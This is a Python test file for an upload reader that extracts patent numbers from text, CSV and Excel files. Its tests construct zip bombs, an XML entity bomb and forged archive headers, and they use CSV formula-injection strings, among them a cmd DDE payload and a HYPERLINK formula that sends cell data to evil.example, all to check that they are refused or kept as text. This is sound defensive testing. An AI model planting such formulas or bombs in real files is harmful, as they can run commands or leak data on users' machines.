"""Uploaded files: what is read, and what is refused before it costs time or memory."""

import io
import zipfile
import zlib
from datetime import date
from random import Random

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from components.numbers import Number, Standing, UploadRefused, read_upload


def workbook(*rows: tuple[object, ...]) -> bytes:
    """Make an Excel file of one sheet."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def rebuilt(data: bytes, replaced: dict[str, bytes], added: dict[str, bytes] | None = None) -> bytes:
    """Copy an Excel file with members replaced and added."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.namelist():
            new.writestr(member, replaced.get(member, old.read(member)))
        for member, content in (added or {}).items():
            new.writestr(member, content)
    return file.getvalue()


def forms(numbers: list[Number]) -> list[str]:
    """Return the normalised forms of what was understood or doubled."""
    return [number.reading.normalised for number in numbers if len(number.readings) == 1]


def test_text_is_read_like_typed_text():
    """A .txt file may hold a list or prose, in UTF-8 with mark, UTF-16 or the Western code page."""
    text = "US7654321B2\nEP2458380B1 – “Gripper”\n"
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "cp1252"):
        assert forms(read_upload("list.TXT", text.encode(encoding))) == ["US7654321B2", "EP2458380B1"]


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_csv_reads_the_column_with_the_most_numbers(mark):
    """The column is found whatever divides the cells; its heading is passed over, titles and dates are not read."""
    rows = [["No", "Title", "Publication", "Filed"], ["1", "A gripper", "US7654321B2", "2009-01-05"]]
    rows += [["2", '"Ladar, coherent"', "EP2458380B1", "2010-01-05"], ["3", "Pump", "14/706838", "2011-01-05"]]
    numbers = read_upload("list.csv", "\n".join(mark.join(row) for row in rows).encode())
    assert [number.typed for number in numbers] == ["US7654321B2", "EP2458380B1", "14/706838"]
    assert forms(numbers) == ["US7654321B2", "EP2458380B1", "US14/706838"]


def test_csv_keeps_commas_between_groups_of_three():
    """Unquoted numbers with commas are not torn apart."""
    numbers = read_upload("list.csv", b'US 11,205,304 B2,Gripper\n"US 10,000,000 B2",Ladar\n7,654,321,Pump\n')
    assert forms(numbers) == ["US11205304B2", "US10000000B2", "US7654321"]


def test_a_table_of_one_row_is_a_list():
    """Numbers beside each other in the only row are all read."""
    assert forms(read_upload("list.csv", b"US7654321B2,EP2458380B1,14/706838")) == [
        "US7654321B2",
        "EP2458380B1",
        "US14/706838",
    ]
    data = workbook(("US7654321B2", "EP2458380B1"))
    assert forms(read_upload("list.xlsx", data)) == ["US7654321B2", "EP2458380B1"]


def test_a_cell_may_hold_several_numbers():
    """Numbers on several lines of one cell, or behind semicolons, are all read."""
    numbers = read_upload("list.csv", b'Number,Title\n"US7654321B2\nEP2458380B1",x\n"14/706,838; US7654322B2",y\n')
    assert forms(numbers) == ["US7654321B2", "EP2458380B1", "US14/706838", "US7654322B2"]


def test_the_first_of_equal_columns_is_read():
    """Where two columns hold as many numbers, the first counts."""
    numbers = read_upload("list.csv", b"patent,application\nUS7654321B2,14/706838\nUS7654322B2,14/706839\n")
    assert forms(numbers) == ["US7654321B2", "US7654322B2"]


def test_a_cell_that_is_not_understood_is_refused_not_dropped():
    """Every filled cell below the heading gives an item, in order."""
    numbers = read_upload(
        "list.csv", b"Number\nUS7654321B2\nto be filed with the office\nn/a\n\nEP2458380B1\n1.1E+07\n"
    )
    assert [number.standing.value for number in numbers] == [
        "understood",
        "refused",
        "refused",
        "understood",
        "refused",
    ]


def test_doubles_in_a_file_are_marked():
    """The list comes back with doubles marked."""
    numbers = read_upload("list.csv", b"US7654321B2\n7,654,321\n")
    assert [number.standing for number in numbers] == [Standing.UNDERSTOOD, Standing.DOUBLED]


def test_excel_is_read_with_its_floats_and_dates():
    """Whole numbers lose their `.0`; a column of dates is not taken for numbers; blank rows are passed over."""
    data = workbook(
        ("Filed", "Patent"),
        (date(2009, 1, 5), 7654321.0),
        (None, None),
        (date(2010, 1, 5), "US 11,205,304 B2"),
        (date(2011, 1, 5), 20150123456),
        (date(2012, 1, 5), "CN101234567A"),
    )
    numbers = read_upload("list.xlsx", data)
    assert [number.typed for number in numbers] == ["7654321", "US 11,205,304 B2", "20150123456", "CN101234567A"]
    assert forms(numbers) == ["US7654321", "US11205304B2", "US20150123456A1"]


def test_excel_reads_the_first_sheet_only():
    """Further sheets are left alone."""
    book = openpyxl.Workbook()
    book.active.append(("US7654321B2",))
    book.create_sheet().append(("EP2458380B1",))
    file = io.BytesIO()
    book.save(file)
    assert forms(read_upload("list.xlsx", file.getvalue())) == ["US7654321B2"]


def test_a_formula_that_was_never_computed_is_not_dropped():
    """The number is read from the formula's text; a formula without one is refused."""
    link = '=HYPERLINK("https://patents.google.com/patent/US7654321B2/en")'
    numbers = read_upload("list.xlsx", workbook(("Number",), (link,), ("=1+1",), ("EP2458380B1",)))
    assert [number.standing.value for number in numbers] == ["understood", "refused", "understood"]
    assert forms(numbers) == ["US7654321B2", "EP2458380B1"]


@pytest.mark.parametrize(
    "formula", ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", '=HYPERLINK("http://evil.example/?x="&A1)']
)
def test_formula_strings_in_csv_stay_text(formula):
    """A formula is an item like any other: never evaluated, refused as no number, shown as typed."""
    quoted = '"' + formula.replace('"', '""') + '"'
    numbers = read_upload("list.csv", f"Number\nUS7654321B2\n{quoted}\n".encode())
    assert forms(numbers) == ["US7654321B2"]
    assert [number.standing for number in numbers[1:]] == [Standing.REFUSED] * (len(numbers) - 1)
    assert len(numbers) > 1


def test_more_than_ten_thousand_numbers_are_refused():
    """The limit is ten thousand numbers, in text and in tables."""
    lines = [f"US{number}B2" for number in range(7_000_000, 7_010_001)]
    with pytest.raises(UploadRefused, match="10,000"):
        read_upload("list.csv", "\n".join(lines).encode())
    with pytest.raises(UploadRefused, match="10,000"):
        read_upload("list.xlsx", workbook(*((line,) for line in lines)))


@pytest.mark.parametrize("name", ["list.txt", "list.csv", "list.xlsx"])
def test_more_than_two_megabytes_are_refused(name):
    """Size is judged before the content."""
    with pytest.raises(UploadRefused, match="2 MB"):
        read_upload(name, b"1" * (2 * 1024 * 1024 + 1))


@pytest.mark.parametrize("name", ["list.xls", "list.pdf", "list", "list.docx"])
def test_other_kinds_are_refused(name):
    """The message names what can be read."""
    with pytest.raises(UploadRefused, match=r"\.xlsx, \.csv or \.txt"):
        read_upload(name, b"US7654321B2")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("list.xlsx", b"US7654321B2"),
        ("list.xlsx", b""),
        ("list.xlsx", b"PK\x03\x04broken"),
        ("list.csv", workbook(("US7654321B2",))),
        ("list.txt", b"US\x00\x01\x02"),
        ("list.csv", b'US7654321B2\n"' + b"x" * 200_000),
        ("list.txt", b"  \n"),
        ("list.csv", b""),
        ("list.xlsx", workbook()),
    ],
)
def test_damaged_and_empty_files_are_refused(name, data):
    """Whatever is wrong with a file, the answer is a refusal that says what to do."""
    with pytest.raises(UploadRefused, match=r"Save|ending|Put"):
        read_upload(name, data)


def test_a_damaged_workbook_is_refused():
    """A workbook whose sheet is cut off, or is no XML, is refused."""
    data = workbook(("US7654321B2",))
    with pytest.raises(UploadRefused, match="damaged"):
        read_upload("list.xlsx", data[: len(data) // 2])
    with pytest.raises(UploadRefused, match="damaged"):
        read_upload("list.xlsx", rebuilt(data, {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row>"}))


def never_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make any attempt to open the workbook fail the test."""
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *_, **__: pytest.fail("the workbook was opened"))


def test_a_bomb_by_ratio_is_refused_before_parsing(monkeypatch):
    """A member of 15 MB in 15 kB: refused by the directory alone."""
    bomb = rebuilt(workbook(("US7654321B2",)), {}, {"xl/worksheets/sheet2.xml": b"<a/>" * (15 * 1024 * 256)})
    assert len(bomb) < 200_000
    never_parsed(monkeypatch)
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_: pytest.fail("a member was unpacked"))
    with pytest.raises(UploadRefused, match="unpacks to far more"):
        read_upload("list.xlsx", bomb)


def test_a_bomb_by_size_is_refused_before_parsing(monkeypatch):
    """21 MB in all at a ratio below 100: refused by the sum of the sizes."""
    file = io.BytesIO()
    random = Random(1)  # noqa: S311 - the same bytes in every run
    block = random.randbytes(4096)
    content = b"".join(block + random.randbytes(100) for _ in range(1400))
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for index in range(4):
            archive.writestr(f"xl/media/{index}.bin", content)
    assert len(file.getvalue()) < 2 * 1024 * 1024
    assert 20 * 1024 * 1024 < 4 * len(content) < 100 * len(file.getvalue())
    never_parsed(monkeypatch)
    with pytest.raises(UploadRefused, match="unpacks to far more"):
        read_upload("list.xlsx", file.getvalue())


def test_a_bomb_by_members_is_refused_before_parsing(monkeypatch):
    """More than 200 members: refused."""
    bomb = rebuilt(workbook(("US7654321B2",)), {}, {f"xl/media/{index}.bin": b"x" for index in range(200)})
    never_parsed(monkeypatch)
    with pytest.raises(UploadRefused, match="unpacks to far more"):
        read_upload("list.xlsx", bomb)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_entity_bomb_is_refused_before_parsing(monkeypatch, encoding):
    """XML that declares a document type is refused in any encoding."""
    entities = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 9))
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY e0 "ha">{entities}]>'
    sheet = f"{head}<worksheet>&e8;</worksheet>"
    bomb = rebuilt(workbook(("US7654321B2",)), {"xl/worksheets/sheet1.xml": sheet.encode(encoding)})
    never_parsed(monkeypatch)
    with pytest.raises(UploadRefused, match="unpacks to far more"):
        read_upload("list.xlsx", bomb)


def test_a_directory_that_lies_about_sizes_is_refused():
    """A member larger than its entry says is not unpacked beyond it: the file counts as damaged."""
    data = bytearray(workbook(("US7654321B2",)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    entry = (
        data.rindex(b"xl/worksheets/sheet1.xml") - 46
    )  # the central directory's entry begins 46 bytes before the name
    assert data[entry : entry + 4] == b"PK\x01\x02"
    assert int.from_bytes(data[entry + 24 : entry + 28], "little") == size
    data[entry + 24 : entry + 28] = (size // 2).to_bytes(4, "little")
    with pytest.raises(UploadRefused, match="damaged"):
        read_upload("list.xlsx", bytes(data))


def test_an_encrypted_workbook_is_refused():
    """A member marked as encrypted cannot be read."""
    data = bytearray(workbook(("US7654321B2",)))
    entry = data.rindex(b"xl/worksheets/sheet1.xml") - 46
    data[entry + 8] |= 1
    with pytest.raises(UploadRefused, match="protected"):
        read_upload("list.xlsx", bytes(data))


def test_a_sheet_of_too_many_cells_is_refused():
    """A quarter of a million cells in a small file are no list of numbers."""
    cell = b'<c t="inlineStr"><is><t>%d</t></is></c>'
    row = b"<row>" + b"".join(cell % (zlib.crc32(str(index).encode())) for index in range(420)) + b"</row>"
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    small = rebuilt(workbook(("x",)), {"xl/worksheets/sheet1.xml": head + row * 2 + b"</sheetData></worksheet>"})
    assert len(read_upload("list.xlsx", small)) == 2
    cells = b"".join(b"<c><v>%d</v></c>" % (zlib.crc32(str(index).encode()) % 10) for index in range(500))
    large = head + (b"<row>" + cells + b"</row>") * 500 + b"</sheetData></worksheet>"
    data = rebuilt(workbook(("x",)), {"xl/worksheets/sheet1.xml": large})
    with pytest.raises(UploadRefused, match="too many cells"):
        read_upload("list.xlsx", data)


def test_a_part_of_too_many_elements_is_refused_before_parsing(monkeypatch):
    """Strings and styles are counted by their tags before a parser makes objects of them."""
    never_parsed(monkeypatch)
    strings = "".join(f"<si><t>{index:x}</t></si>" for index in range(260_000)).encode()
    styles = "".join(f'<xf a="{index:x}"/>' for index in range(110_000)).encode()
    for data in (
        rebuilt(workbook(("x",)), {}, {"xl/sharedStrings.xml": strings}),
        rebuilt(workbook(("x",)), {"xl/styles.xml": styles}),
    ):
        with pytest.raises(UploadRefused, match="too many cells"):
            read_upload("list.xlsx", data)


@given(st.sampled_from(["a.csv", "a.txt", "a.xlsx"]), st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(name, data):
    """Whatever the bytes are, there is a list or a refusal."""
    message = ""
    try:
        numbers = read_upload(name, data)
    except UploadRefused as refused:
        numbers, message = [], str(refused)
    assert bool(numbers) != (len(message) > 30)
